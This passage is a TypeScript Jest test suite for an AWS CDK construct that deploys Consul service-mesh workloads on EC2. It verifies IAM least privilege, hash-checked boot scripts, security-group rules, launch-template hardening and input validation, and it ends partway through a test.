import { spawn, spawnSync } from 'child_process';
import { createHash } from 'crypto';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'fs';
import * as http from 'http';
import * as net from 'net';
import { tmpdir } from 'os';
import { dirname, join } from 'path';
import { Match, Template } from 'aws-cdk-lib/assertions';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as kms from 'aws-cdk-lib/aws-kms';
import * as logs from 'aws-cdk-lib/aws-logs';
import type * as s3assets from 'aws-cdk-lib/aws-s3-assets';
import { ConsulIamAuthMethod, ConsulImage } from '../../../constructs/consul';
import { handler as authMethodHandler } from '../../../constructs/consul/private/auth-method-handler';
import { ConsulPorts } from '../../../constructs/consul/types';
import { consulClient } from '../../../constructs/intentions/private/consul-client';
import { Mesh, ServicePlacement } from '../../../constructs/mesh';
import { MeshEc2Service, MeshExternalService, renderEc2UserData, sidecarScriptPath } from '../../../constructs/services';
import { ENVOY_READY_PORT, SIDECAR_PORT } from '../../../constructs/services/private/workload';
import { findSecretMaterial, formatFindings, validateCloudFormation } from '../../harness';
import { ConsoleCapture } from '../../harness/handler-tests';
import { ConsulStandIn } from '../../harness/stand-ins/consul';
import { meshError } from '../../util';
import {
  ACCOUNT, CA_SECRET_ARN, CONSUL_LB, DIGEST, ECS_CLUSTER_ARN, ENDPOINTS, GATEWAY_TASKS, REGION, deployed, ec2AppImage, ec2Service, ec2ServiceProps, ecsService, resourceOf, rulesOf,
  securityGroupId, servicesFixture, type ServicesFixture,
} from './fixtures';

const SERVICE_NAME_TAG = ConsulIamAuthMethod.SERVICE_NAME_TAG;
const METHOD = 'lambda-mesh-ml-aws-iam';

type Resource = ReturnType<typeof resourceOf>[1];
type Statement = { Action: string | string[]; Effect: string; Resource: unknown; Condition?: unknown };

/** The user data of the launch template whose logical id starts with `prefix`, as the instance gets it. */
function userDataOf(t: Template, prefix: string): string {
  const [, lt] = resourceOf(t, 'AWS::EC2::LaunchTemplate', `${prefix}LaunchTemplate`);
  return deployed((lt.Properties.LaunchTemplateData as { UserData: unknown }).UserData) as string;
}

/** The values the user data writes into the env file. */
function envOf(userData: string): Record<string, string> {
  const body = /<<'LAMBDA_MESH_ENV'\n([\s\S]*?)\nLAMBDA_MESH_ENV\n/.exec(userData)![1];
  return Object.fromEntries(body.split('\n').map((line) => {
    const m = /^([A-Z_]+)='(.*)'$/.exec(line)!;
    return [m[1], m[2]];
  }));
}

/** The statements of the default policy of the role whose logical id is `roleId`. */
function statementsOf(t: Template, roleId: string): Statement[] {
  return Object.values(t.findResources('AWS::IAM::Policy'))
    .map((p) => (p as Resource).Properties)
    .filter((p) => JSON.stringify(p.Roles) === JSON.stringify([{ Ref: roleId }]))
    .flatMap((p) => (p.PolicyDocument as { Statement: Statement[] }).Statement);
}

const actions = (s: Statement): string[] => [s.Action].flat();

/** The service subnets' outputs of the network stack. */
const SERVICE_SUBNETS = /PublishOutputRefNetworkVpcServicesSubnet\dSubnet/;

// ---------------------------------------------------------------------------------------------------------------
// One environment for the template tests and the script: log-service and result-writer on EC2, feature-store on ECS.
// feature-store and result-writer call log-service; model-a calls feature-store.

function ec2Fixture(): ServicesFixture {
  return servicesFixture({ placements: { 'log-service': ServicePlacement.EC2, 'result-writer': ServicePlacement.EC2 } });
}

const f = ec2Fixture();
ecsService(f, 'FeatureStore', f.featureStore);
const logService = ec2Service(f, 'LogService', f.logService);
const resultWriter = ec2Service(f, 'ResultWriter', f.resultWriter, {
  command: ['serve', '--port', '8081'],
  environment: { LOG_LEVEL: 'info' },
  healthCheckPath: '/healthz',
  instanceType: ec2.InstanceType.of(ec2.InstanceClass.C7I, ec2.InstanceSize.LARGE),
  count: 3,
});
const t = Template.fromStack(f.servicesStack);
const controlPlane = Template.fromStack(f.controlPlane);
const [roleId, role] = resourceOf(t, 'AWS::IAM::Role', 'LogServiceInstanceRole');
const userData = userDataOf(t, 'LogService');

/** The script as S3 serves it: the staged asset of the cloud assembly. */
function stagedScript(): string {
  const asset = logService.node.findChild('Script') as s3assets.Asset;
  return join(f.app.outdir, asset.assetPath);
}

describe('MeshEc2Service', () => {
  describe('with defaults (log-service)', () => {
    test('the instance role is a workload role: under the mesh\'s path, tagged with the service, allowed iam:GetRole on itself, assumed by EC2', () => {
      expect(role.Properties).toMatchObject({
        Path: '/lambda-mesh/ml/',
        Tags: [{ Key: 'consul.hashicorp.com.service-name', Value: 'log-service' }],
        AssumeRolePolicyDocument: { Statement: [{ Action: 'sts:AssumeRole', Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' } }] },
      });
      t.hasResourceProperties('AWS::IAM::Policy', {
        Roles: [{ Ref: roleId }],
        PolicyDocument: { Statement: Match.arrayWith([Match.objectLike({ Action: 'iam:GetRole', Effect: 'Allow', Resource: { 'Fn::GetAtt': [roleId, 'Arn'] } })]) },
      });
      t.hasResourceProperties('AWS::IAM::InstanceProfile', { Roles: [{ Ref: roleId }] });
      const [profileId] = resourceOf(t, 'AWS::IAM::InstanceProfile', 'LogServiceLaunchTemplateProfile');
      t.hasResourceProperties('AWS::EC2::LaunchTemplate', { LaunchTemplateData: Match.objectLike({ IamInstanceProfile: { Arn: { 'Fn::GetAtt': [profileId, 'Arn'] } } }) });
      expect(logService.role.node.path).toBe('services/LogService/InstanceRole');
    });

    test('s3:GetObject on exactly the script asset\'s object, the one the user data downloads, and nothing else on S3', () => {
      const s3 = statementsOf(t, roleId).filter((s) => actions(s).some((a) => a.startsWith('s3:')) || JSON.stringify(s.Resource).includes(':s3:::'));
      expect(s3).toHaveLength(1);
      expect(s3[0]).toMatchObject({ Action: 's3:GetObject', Effect: 'Allow' });
      const object = deployed(s3[0].Resource) as string;
      expect(object).toMatch(new RegExp(`^arn:aws:s3:::cdk-hnb659fds-assets-${ACCOUNT}-${REGION}/[0-9a-f]{64}\\.sh$`));
      const downloaded = /aws s3 cp 's3:\/\/([^']+)'/.exec(userData)![1];
      expect(`arn:aws:s3:::${downloaded}`).toBe(object);
    });

    test('the role reads one secret, the servers\' CA, and decrypts only through Secrets Manager', () => {
      const statements = statementsOf(t, roleId);
      const secrets = statements.filter((s) => actions(s).some((a) => a.startsWith('secretsmanager:')));
      expect(secrets).toHaveLength(1);
      expect(secrets[0]).toMatchObject({ Action: 'secretsmanager:GetSecretValue', Resource: { 'Fn::GetStackOutput': expect.objectContaining({ StackName: 'control-plane', OutputName: expect.stringMatching(/ConsulCaCertificate/) }) } });
      const decrypt = statements.filter((s) => actions(s).includes('kms:Decrypt'));
      expect(decrypt).toHaveLength(1);
      expect(deployed(decrypt[0].Condition)).toEqual({ StringEquals: { 'kms:ViaService': `secretsmanager.${REGION}.amazonaws.com` } });
    });

    test('the role pulls its three images (app, Consul, consul-dataplane) and writes only to its own log group', () => {
      const statements = statementsOf(t, roleId);
      const pull = statements.find((s) => actions(s).includes('ecr:BatchGetImage'))!;
      const repositories = (deployed(pull.Resource) as string[]).map((arn) => arn.replace(`arn:aws:ecr:${REGION}:${ACCOUNT}:repository/`, ''));
      expect(repositories).toHaveLength(3);
      expect(repositories).toEqual(expect.arrayContaining(['logservice', expect.stringMatching(/^ecr-public-[0-9a-f]{8}\/hashicorp\/consul$/), expect.stringMatching(/^ecr-public-[0-9a-f]{8}\/hashicorp\/consul-dataplane$/)]));
      expect(statements.filter((s) => actions(s).includes('ecr:GetAuthorizationToken')).map((s) => s.Resource)).toEqual(['*']);
      const [logGroupId] = resourceOf(t, 'AWS::Logs::LogGroup', 'LogServiceLogs');
      const write = statements.filter((s) => actions(s).some((a) => a.startsWith('logs:')));
      expect(write).toEqual([{
        Action: ['logs:CreateLogStream', 'logs:PutLogEvents'],
        Effect: 'Allow',
        Resource: [{ 'Fn::GetAtt': [logGroupId, 'Arn'] }, { 'Fn::Join': ['', [{ 'Fn::GetAtt': [logGroupId, 'Arn'] }, ':log-stream:*']] }],
      }]);
      t.hasResourceProperties('AWS::Logs::LogGroup', { RetentionInDays: 365, KmsKeyId: { 'Fn::GetAtt': [Match.stringLikeRegexp('^LogServiceLogKey'), 'Arn'] } });
      expect(envOf(userData).LOG_GROUP).toBe(`services-${logGroupId}`);
    });

    test('no Consul token and no secret value in the template or the user data: the CA secret\'s ARN only', () => {
      expect(JSON.stringify(t.toJSON())).not.toMatch(/Consul[A-Za-z]*Token/);
      expect(findSecretMaterial(JSON.stringify(t.toJSON()))).toEqual([]);
      expect(findSecretMaterial(userData)).toEqual([]);
      const env = envOf(userData);
      expect(Object.keys(env).filter((k) => /TOKEN|SECRET(?!_ARN)|PASSWORD|KEY/.test(k))).toEqual([]);
      expect(Object.values(env).filter((v) => v.includes(':secretsmanager:'))).toEqual([CA_SECRET_ARN]);
      expect(env.CA_SECRET_ARN).toBe(CA_SECRET_ARN);
    });

    test('the user data writes the deployment\'s values, downloads the script, checks its SHA-256, and only then runs it', () => {
      const env = envOf(userData);
      expect(env).toMatchObject({
        SERVICE: 'log-service',
        SERVICE_PORT: '24224',
        NODE_NAME: 'lambda-mesh-ml-ec2-log-service',
        REGION,
        CONSUL_ADDRESS: '127.0.0.1',
        SERVER_NAME: 'server.dc1.consul',
        AUTH_METHOD: METHOD,
        REGISTRY: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`,
        APP_IMAGE: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/logservice@${DIGEST}`,
        UPSTREAMS_JSON: '[]',
      });
      expect(env.CONSUL_IMAGE).toMatch(new RegExp(`^${ACCOUNT}\\.dkr\\.ecr\\.${REGION}\\.amazonaws\\.com/ecr-public-[0-9a-f]{8}/hashicorp/consul:\\d+\\.\\d+\\.\\d+$`));
      expect(env.DATAPLANE_IMAGE).toMatch(/\/ecr-public-[0-9a-f]{8}\/hashicorp\/consul-dataplane:\d+\.\d+\.\d+$/);
      expect(JSON.parse(env.APP_ENV_JSON)).toEqual({ PORT: '24224', HOST: '127.0.0.1' });
      for (const absent of ['APP_COMMAND_JSON', 'HEALTH_PATH', 'HEALTH_COMMAND_JSON']) {
        expect(env[absent]).toBeUndefined();
      }

      const lines = userData.split('\n');
      const at = (pattern: RegExp): number => lines.findIndex((l) => pattern.test(l));
      const download = at(/^aws s3 cp 's3:\/\/[^']+' \/usr\/local\/lib\/lambda-mesh\/ec2-sidecar\.sh --only-show-errors$/);
      const check = at(/^printf '%s {2}%s\\n' [0-9a-f]{64} \/usr\/local\/lib\/lambda-mesh\/ec2-sidecar\.sh \| sha256sum --check --strict --quiet$/);
      const chmod = at(/^chmod 0755 \/usr\/local\/lib\/lambda-mesh\/ec2-sidecar\.sh$/);
      const run = at(/^\/usr\/local\/lib\/lambda-mesh\/ec2-sidecar\.sh install$/);
      expect(lines.slice(0, 2)).toEqual(['#!/usr/bin/env bash', 'set -euo pipefail']);
      expect([at(/^LAMBDA_MESH_ENV$/) < download, download < check, check < chmod, chmod < run, run === lines.length - 1]).toEqual([true, true, true, true, true]);
    });

    test('the SHA-256 the user data checks is the script file\'s, which is what the asset uploads', () => {
      const sha256 = /printf '%s {2}%s\\n' ([0-9a-f]{64}) /.exec(userData)![1];
      const file = readFileSync(sidecarScriptPath());
      expect(sha256).toBe(createHash('sha256').update(file).digest('hex'));
      expect(readFileSync(stagedScript())).toEqual(file);
    });

    test.each([
      ['the synthesized user data', (): string => userData],
      ['the machine script', (): string => readFileSync(sidecarScriptPath(), 'utf8')],
    ])('%s passes shellcheck -s bash -S style', (_name, text) => {
      const result = spawnSync('shellcheck', ['-s', 'bash', '-S', 'style', '-'], { input: text(), encoding: 'utf8' });
      if (result.error) {
        throw new Error(`shellcheck did not run (${result.error.message}): the scripts must be checked`);
      }
      expect(result.stdout + result.stderr).toBe('');
      expect(result.status).toBe(0);
    });

    test('the script\'s ports and paths are the construct\'s: sidecar, Envoy readiness, Consul HTTPS and gRPC-TLS, env file and download path', () => {
      const script = readFileSync(sidecarScriptPath(), 'utf8');
      const value = (name: string): string => new RegExp(`^${name}=(.*)$`, 'm').exec(script)![1];
      expect([value('SIDECAR_PORT'), value('ENVOY_READY_PORT'), value('CONSUL_API_PORT'), value('CONSUL_GRPC_PORT')]).toEqual(
        [SIDECAR_PORT, ENVOY_READY_PORT, ConsulPorts.HTTPS, ConsulPorts.GRPC_TLS].map(String));
      expect(value('ENV_FILE')).toBe('${LAMBDA_MESH_ENV_FILE:-/etc/lambda-mesh/service.env}');
      expect(value('SCRIPT_PATH')).toBe('${LAMBDA_MESH_SCRIPT_PATH:-/usr/local/lib/lambda-mesh/ec2-sidecar.sh}');
      expect(userData).toContain("cat >/etc/lambda-mesh/service.env <<'LAMBDA_MESH_ENV'\n");
    });

    test('the sidecar port admits only the mesh gateway\'s tasks and the workloads the model lets call it', () => {
      const log = securityGroupId(t, 'LogServiceSecurityGroup');
      expect(rulesOf(t, 'ingress', log)).toEqual([
        `20000-20000:${GATEWAY_TASKS}`,
        `20000-20000:${securityGroupId(t, 'FeatureStoreSecurityGroup')}`,
        `20000-20000:${securityGroupId(t, 'ResultWriterSecurityGroup')}`,
      ].sort());
      // Nothing lets anyone call result-writer: the gateway only.
      expect(rulesOf(t, 'ingress', securityGroupId(t, 'ResultWriterSecurityGroup'))).toEqual([`20000-20000:${GATEWAY_TASKS}`]);
      expect(logService.connections.defaultPort?.toString()).toBe('20000');
      expect(logService.sidecarPort).toBe(20000);
      t.hasResourceProperties('AWS::EC2::SecurityGroup', {
        GroupDescription: 'lambda-mesh service log-service (EC2): its sidecar (20000) from the mesh gateway and its callers only',
      });
    });

    test('the instances reach the Consul load balancer on 8501 and 8503, the VPC endpoints, S3 on 443, and the sidecars they call', () => {
      const log = securityGroupId(t, 'LogServiceSecurityGroup');
      const writer = securityGroupId(t, 'ResultWriterSecurityGroup');
      const common = ['443-443:0.0.0.0/0', `443-443:${ENDPOINTS}`, `8501-8501:${CONSUL_LB}`, `8503-8503:${CONSUL_LB}`];
      expect(rulesOf(t, 'egress', log)).toEqual([...common].sort());
      expect(rulesOf(t, 'egress', writer)).toEqual([...common, `20000-20000:${log}`].sort());
      expect(rulesOf(t, 'egress', securityGroupId(t, 'FeatureStoreSecurityGroup'))).toContain(`20000-20000:${log}`);
      // The other halves live in this stack too: the control plane and the network never refer to it.
      for (const port of [8501, 8503]) {
        t.hasResourceProperties('AWS::EC2::SecurityGroupIngress', {
          FromPort: port,
          ToPort: port,
          GroupId: { 'Fn::GetStackOutput': Match.objectLike({ StackName: 'control-plane', OutputName: Match.stringLikeRegexp('ConsulLoadBalancerSecurityGroup') }) },
          SourceSecurityGroupId: { 'Fn::GetAtt': [log, 'GroupId'] },
        });
      }
      t.hasResourceProperties('AWS::EC2::SecurityGroupIngress', {
        FromPort: 443,
        GroupId: { 'Fn::GetStackOutput': Match.objectLike({ StackName: 'network', OutputName: Match.stringLikeRegexp('NetworkEndpointSecurityGroup') }) },
        SourceSecurityGroupId: { 'Fn::GetAtt': [log, 'GroupId'] },
      });
    });

    test('the auth method registers the synthetic node ec2NodeName(service) the instances register under, and binds the role\'s tag', () => {
      const [, method] = resourceOf(controlPlane, 'Custom::ConsulAuthMethod', 'AuthMethod');
      const objects = JSON.parse(deployed(method.Properties.Objects) as string) as {
        nodes: Array<Record<string, unknown>>;
        bindingRules: Array<Record<string, unknown>>;
      };
      expect(f.authMethod.ec2NodeName('log-service')).toBe('lambda-mesh-ml-ec2-log-service');
      expect(envOf(userData).NODE_NAME).toBe(f.authMethod.ec2NodeName('log-service'));
      expect(objects.nodes).toEqual(expect.arrayContaining([
        { Node: 'lambda-mesh-ml-ec2-log-service', Address: '127.0.0.1', NodeMeta: { 'synthetic-node': 'true', 'lambda-mesh-owner': expect.stringMatching(/^[0-9a-f]{12}$/) } },
        expect.objectContaining({ Node: 'lambda-mesh-ml-ec2-result-writer' }),
      ]));
      // feature-store runs on ECS: it registers under its cluster's node, not one of its own.
      expect(objects.nodes.map((n) => n.Node).sort()).toEqual([ECS_CLUSTER_ARN, 'lambda-mesh-ml-ec2-log-service', 'lambda-mesh-ml-ec2-result-writer']);
      expect(objects.bindingRules).toContainEqual(expect.objectContaining({
        Key: 'service:log-service',
        Selector: `entity_tags["${SERVICE_NAME_TAG}"] == "log-service"`,
        BindType: 'service',
        BindName: 'log-service',
        Description: expect.stringContaining('run service log-service (ec2)'),
      }));
    });

    test('the launch template requires IMDSv2 with a hop limit of 1, encrypts its gp3 volume, and runs AL2023 for the instance type\'s architecture', () => {
      const [, lt] = resourceOf(t, 'AWS::EC2::LaunchTemplate', 'LogServiceLaunchTemplate');
      expect(lt.Properties.LaunchTemplateData).toMatchObject({
        InstanceType: 't4g.small',
        MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
        BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { Encrypted: true, VolumeType: 'gp3', VolumeSize: 20, DeleteOnTermination: true } }],
        Monitoring: { Enabled: true },
        SecurityGroupIds: [{ 'Fn::GetAtt': [securityGroupId(t, 'LogServiceSecurityGroup'), 'GroupId'] }],
      });
      const imageParameter = (prefix: string): string => {
        const [, template] = resourceOf(t, 'AWS::EC2::LaunchTemplate', prefix);
        const ref = ((template.Properties.LaunchTemplateData as { ImageId: { Ref: string } }).ImageId).Ref;
        return (t.toJSON().Parameters as Record<string, { Default: string }>)[ref].Default;
      };
      expect(imageParameter('LogServiceLaunchTemplate')).toBe('/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-6.1-arm64');
      expect(imageParameter('ResultWriterLaunchTemplate')).toBe('/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-6.1-x86_64');
    });

    test('the Auto Scaling group keeps 2 instances in the service subnets, replaces one at a time, and starts after the servers and the auth method', () => {
      const [, asg] = resourceOf(t, 'AWS::AutoScaling::AutoScalingGroup', 'LogServiceInstancesASG');
      expect(asg.Properties).toMatchObject({ MinSize: '2', MaxSize: '2', TerminationPolicies: ['OldestInstance'] });
      expect(asg.Properties.DesiredCapacity).toBeUndefined();
      expect(asg.UpdatePolicy).toMatchObject({ AutoScalingRollingUpdate: { MaxBatchSize: 1, MinInstancesInService: 1 } });
      const subnets = asg.Properties.VPCZoneIdentifier as Array<{ 'Fn::GetStackOutput': { OutputName: string } }>;
      expect(subnets).toHaveLength(3);
      expect(subnets.every((s) => SERVICE_SUBNETS.test(s['Fn::GetStackOutput'].OutputName))).toBe(true);
      expect(logService.autoScalingGroup.node.dependencies).toEqual(expect.arrayContaining([f.cluster, f.authMethod]));
      expect(f.servicesStack.dependencies).toContain(f.controlPlane);
    });
  });

  describe('with options (result-writer: a command, environment, an HTTP health path, x86, 3 instances, an upstream)', () => {
    const writerData = userDataOf(t, 'ResultWriter');

    test('the user data carries the command, the health path, the app\'s variables and the upstream', () => {
      const env = envOf(writerData);
      expect(JSON.parse(env.APP_COMMAND_JSON)).toEqual(['serve', '--port', '8081']);
      expect(env.HEALTH_PATH).toBe('/healthz');
      expect(JSON.parse(env.APP_ENV_JSON)).toEqual({ LOG_LEVEL: 'info', PORT: '8081', HOST: '127.0.0.1', MESH_UPSTREAM_LOG_SERVICE_URL: 'tcp://127.0.0.1:24224' });
      expect(JSON.parse(env.UPSTREAMS_JSON)).toEqual([{ name: 'log-service', localPort: 24224 }]);
      expect(resultWriter.upstreams.map((u) => [u.name, u.localPort, u.environmentVariable, u.url])).toEqual([['log-service', 24224, 'MESH_UPSTREAM_LOG_SERVICE_URL', 'tcp://127.0.0.1:24224']]);
      expect(logService.upstreams).toEqual([]);
    });

    test('the instance type and count: c7i.large, 3 instances, 2 kept in service while one is replaced', () => {
      t.hasResourceProperties('AWS::EC2::LaunchTemplate', { LaunchTemplateData: Match.objectLike({ InstanceType: 'c7i.large' }) });
      const [, asg] = resourceOf(t, 'AWS::AutoScaling::AutoScalingGroup', 'ResultWriterInstancesASG');
      expect(asg.Properties).toMatchObject({ MinSize: '3', MaxSize: '3' });
      expect(asg.UpdatePolicy).toMatchObject({ AutoScalingRollingUpdate: { MaxBatchSize: 1, MinInstancesInService: 2 } });
    });

    test('upstreams: [] calls none of what the model allows', () => {
      const g = ec2Fixture();
      const writer = ec2Service(g, 'ResultWriter', g.resultWriter, { upstreams: [] });
      expect(writer.upstreams).toEqual([]);
      const lt = writer.node.findChild('LaunchTemplate') as ec2.LaunchTemplate;
      const env = envOf(deployed(g.servicesStack.resolve(lt.userData!.render())) as string);
      expect([env.UPSTREAMS_JSON, JSON.parse(env.APP_ENV_JSON)]).toEqual(['[]', { PORT: '8081', HOST: '127.0.0.1' }]);
    });

    test('a health command goes to the user data as JSON', () => {
      const g = ec2Fixture();
      const svc = ec2Service(g, 'LogService', g.logService, { healthCheckCommand: ['/bin/check', '--deep'] });
      const lt = svc.node.findChild('LaunchTemplate') as ec2.LaunchTemplate;
      const env = envOf(deployed(g.servicesStack.resolve(lt.userData!.render())) as string);
      expect(env.HEALTH_COMMAND_JSON).toBe('["/bin/check","--deep"]');
      expect(env.HEALTH_PATH).toBeUndefined();
    });

    test('a log key and retention of your own', () => {
      const g = ec2Fixture();
      const key = new kms.Key(g.servicesStack, 'OwnKey', { enableKeyRotation: true });
      ec2Service(g, 'LogService', g.logService, { logKey: key, logRetention: logs.RetentionDays.THREE_MONTHS });
      const own = Template.fromStack(g.servicesStack);
      own.hasResourceProperties('AWS::Logs::LogGroup', { RetentionInDays: 90, KmsKeyId: { 'Fn::GetAtt': [Match.stringLikeRegexp('^OwnKey'), 'Arn'] } });
      own.resourceCountIs('AWS::KMS::Key', 1);
    });

    test('public HashiCorp images are accepted when the service subnets have egress', () => {
      const g = servicesFixture({ network: { serviceEgress: true }, placements: { 'log-service': ServicePlacement.EC2 } });
      const props = { ...ec2ServiceProps(g, g.logService), consulImage: undefined, dataplaneImage: undefined, image: ec2AppImage(g.servicesStack, 'log') };
      const svc = new MeshEc2Service(g.servicesStack, 'LogService', props);
      const lt = svc.node.findChild('LaunchTemplate') as ec2.LaunchTemplate;
      const env = envOf(deployed(g.servicesStack.resolve(lt.userData!.render())) as string);
      expect(env.CONSUL_IMAGE).toMatch(/^public\.ecr\.aws\/hashicorp\/consul:/);
      expect(env.DATAPLANE_IMAGE).toMatch(/^public\.ecr\.aws\/hashicorp\/consul-dataplane:/);
    });
  });

  test('the stacks of EC2, ECS and external services have no unacknowledged cdk-nag, cfn-guard or construct finding', () => {
    const g = servicesFixture({ placements: { 'log-service': ServicePlacement.EC2, 'result-writer': ServicePlacement.EXTERNAL } });
    ec2Service(g, 'LogService', g.logService, { healthCheckPath: '/healthz' });
    ecsService(g, 'FeatureStore', g.featureStore);
    const owner = ec2.SecurityGroup.fromSecurityGroupId(g.servicesStack, 'OwnerGroup', 'sg-0123456789abcdef0', { allowAllOutbound: false });
    new MeshExternalService(g.servicesStack, 'ResultWriter', { service: g.resultWriter, securityGroup: owner, cluster: g.cluster, gateway: g.gateway, network: g.network });
    const result = validateCloudFormation(g.app);
    if (result.findings.length > 0) {
      throw new Error(`unacknowledged findings:\n${formatFindings(result.findings)}`);
    }
    const ec2Acks = result.acknowledged.filter((a) => a.constructPath?.startsWith('services/LogService/'));
    expect(ec2Acks.map((a) => `${a.ruleId} ${a.constructPath!.replace('services/LogService/', '')}`).sort()).toEqual([
      'AwsSolutions-AS3 Instances/ASG',
      'AwsSolutions-IAM5[Resource::*] InstanceRole/DefaultPolicy/Resource',
      expect.stringMatching(/^AwsSolutions-IAM5\[Resource::<LogServiceLogs[0-9A-F]{8}\.Arn>:log-stream:\*\] InstanceRole\/DefaultPolicy\/Resource$/),
      expect.stringMatching(/^AwsSolutions-IAM5\[Resource::arn:<AWS::Partition>:ecr:<AWS::Region>:<AWS::AccountId>:repository\/ecr-public-[0-9a-f]{8}\/\*\] InstanceRole\/DefaultPolicy\/Resource$/),
      'autoscaling_mixed_instances_policy_multiple_instance_types_check Instances/ASG',
      'autoscaling_multiple_az_check Instances/ASG',
    ]);
    for (const ack of result.acknowledged) {
      expect(ack.reason?.length ?? 0).toBeGreaterThan(40);
    }
  });

  describe('bad input', () => {
    test('fails when healthCheckCommand is empty (it would always report critical)', () => {
      const g = ec2Fixture();
      const props = { ...ec2ServiceProps(g, g.logService), image: ec2AppImage(g.servicesStack, 'log'), healthCheckCommand: [] };
      const err = meshError(() => new MeshEc2Service(g.servicesStack, 'LogService', props));
      expect({ location: err.location, field: err.field, given: err.given }).toEqual({ location: 'services/LogService', field: 'healthCheckCommand', given: '[]' });
      expect(err.expected).toMatch(/^a command and its arguments/);
    });

    test.each(['service', 'cluster', 'authMethod', 'gateway', 'network', 'image'] as const)('fails when %s is missing', (field) => {
      const g = ec2Fixture();
      const props = { ...ec2ServiceProps(g, g.logService), image: ec2AppImage(g.servicesStack, 'log'), [field]: undefined };
      const err = meshError(() => new MeshEc2Service(g.servicesStack, 'LogService', props));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe(field);
      expect(err.given).toBe('(missing)');
      expect(err.expected).toBe(`the ${field} the EC2 service joins`);
      expect(err.message).toBe(`services/LogService: ${field}: given (missing), expected the ${field} the EC2 service joins`);
    });

    test('fails when the auth method is of another mesh', () => {
      const g = ec2Fixture();
      const other = new Mesh(g.app, 'OtherMesh', { meshName: 'other' });
      const authMethod = ConsulIamAuthMethod.fromAuthMethodAttributes(g.servicesStack, 'OtherMethod', { mesh: other, authMethodName: 'lambda-mesh-other-aws-iam', rolePath: '/lambda-mesh/other/' });
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { authMethod }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe('authMethod');
      expect(err.given).toBe('"services/OtherMethod"');
      expect(err.expected).toBe("the auth method of mesh 'ml' (it binds mesh 'other')");
    });

    test('fails when both healthCheckPath and healthCheckCommand are given', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { healthCheckPath: '/healthz', healthCheckCommand: ['true'] }));
      expect(err.message).toBe('services/LogService: healthCheckCommand: given ["true"], expected at most one of healthCheckPath and healthCheckCommand');
    });

    test('fails when healthCheckPath does not start with /', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { healthCheckPath: 'healthz' }));
      expect(err.message).toBe("services/LogService: healthCheckPath: given \"healthz\", expected a path starting with '/'");
    });

    test('fails when the service\'s placement is not EC2', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'FeatureStore', g.featureStore));
      expect(err.location).toBe('Mesh');
      expect(err.field).toBe('service(feature-store).claimWorkload.placement');
      expect(err.given).toBe('"ec2"');
      expect(err.expected).toMatch(/the service's placement, 'ecs'.*services\/FeatureStore/);
    });

    test('fails when the same service is claimed twice', () => {
      const g = ec2Fixture();
      ec2Service(g, 'LogService', g.logService);
      const err = meshError(() => ec2Service(g, 'LogServiceAgain', g.logService));
      expect(err.field).toBe('service(log-service).claimWorkload');
      expect(err.given).toBe('"services/LogServiceAgain"');
      expect(err.expected).toMatch(/the construct at services\/LogService already runs 'log-service'/);
    });

    test.each([
      [20000, "the sidecar's public listener"],
      [22000, "Envoy's readiness listener"],
    ])('fails when the service port is %d, which %s takes on the instance', (port, what) => {
      const g = ec2Fixture();
      const clash = g.mesh.addService('clash', { port, placement: ServicePlacement.EC2 });
      const err = meshError(() => ec2Service(g, 'Clash', clash));
      expect(err.location).toBe('services/Clash');
      expect(err.field).toBe('service.port');
      expect(err.given).toBe(String(port));
      expect(err.expected).toContain(what);
    });

    test('fails when an upstream is not allowed by the model', () => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { upstreams: ['feature-store'] }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe('upstreams[0]');
      expect(err.given).toBe('"feature-store"');
      expect(err.expected).toMatch(/a service that log-service may call \(none: no rule allows it to call anything\)/);
    });

    test('fails when an upstream\'s local port is the service\'s own port', () => {
      const g = ec2Fixture();
      const scorer = g.mesh.addService('scorer', { port: 9000, localPort: 19000, placement: ServicePlacement.ECS });
      const ranker = g.mesh.addService('ranker', { port: 19000, localPort: 29000, placement: ServicePlacement.EC2 });
      scorer.allowFrom(ranker);
      const err = meshError(() => ec2Service(g, 'Ranker', ranker));
      expect(err.location).toBe('services/Ranker');
      expect(err.field).toBe('upstreams(scorer).localPort');
      expect(err.given).toBe('19000');
      expect(err.expected).toMatch(/a local port other than ranker's own port/);
    });

    test.each([0, -1, 1.5])('fails when count is %p', (count) => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { count }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe('count');
      expect(err.given).toBe(String(count));
      expect(err.expected).toMatch(/a whole number of instances, at least 1/);
    });

    test.each(['PORT', 'HOST', 'MESH_UPSTREAM_X_URL', 'LOG-LEVEL', '1ST'])('fails when environment sets %s', (name) => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, { environment: { [name]: 'x' } }));
      expect(err.location).toBe('services/LogService');
      expect(err.field).toBe(`environment.${name}`);
      expect(err.given).toBe(JSON.stringify(name));
      expect(err.expected).toMatch(/not PORT, HOST or MESH_UPSTREAM_\*/);
    });

    test.each([
      ['an environment value', { environment: { GREETING: "it's" } }, 'environment.GREETING', '"it\'s"'],
      ['a command argument', { command: ['echo', "it's"] }, 'command', '["echo","it\'s"]'],
      ['healthCheckPath', { healthCheckPath: "/it's" }, 'healthCheckPath', '"/it\'s"'],
      ['a healthCheckCommand argument', { healthCheckCommand: ['test', "it's"] }, 'healthCheckCommand', '["test","it\'s"]'],
    ])('fails when %s holds a single quote (the env file single-quotes every value)', (_what, props, field, given) => {
      const g = ec2Fixture();
      const err = meshError(() => ec2Service(g, 'LogService', g.logService, props));
